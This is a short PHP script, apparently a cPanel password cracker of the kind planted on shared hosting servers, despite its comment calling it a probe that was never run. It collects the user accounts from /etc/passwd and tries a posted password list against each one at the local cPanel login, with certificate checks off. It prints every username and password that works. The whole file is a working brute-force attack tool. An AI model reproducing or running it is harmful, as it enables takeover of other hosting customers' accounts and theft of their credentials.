<?php
// probe (never run): tries a password list against the cPanel login of the users of /etc/passwd
set_time_limit(0);
$passwords = explode("\n", $_POST['passlist']);
$users = array();
foreach (file('/etc/passwd') as $l) { $p = explode(':', $l); if ($p[2] >= 500) $users[] = $p[0]; }
foreach ($users as $u) {
    foreach ($passwords as $pw) {
        $ch = curl_init('https://127.0.0.1:2083/login/?login_only=1');
        curl_setopt($ch, CURLOPT_POST, 1);
        curl_setopt($ch, CURLOPT_POSTFIELDS, 'user=' . urlencode($u) . '&pass=' . urlencode(trim($pw)));
        curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
        curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, 0);
        $r = curl_exec($ch);
        if (strpos($r, 'security_token') !== false) { echo "$u:$pw<br>"; break; }
    }
}
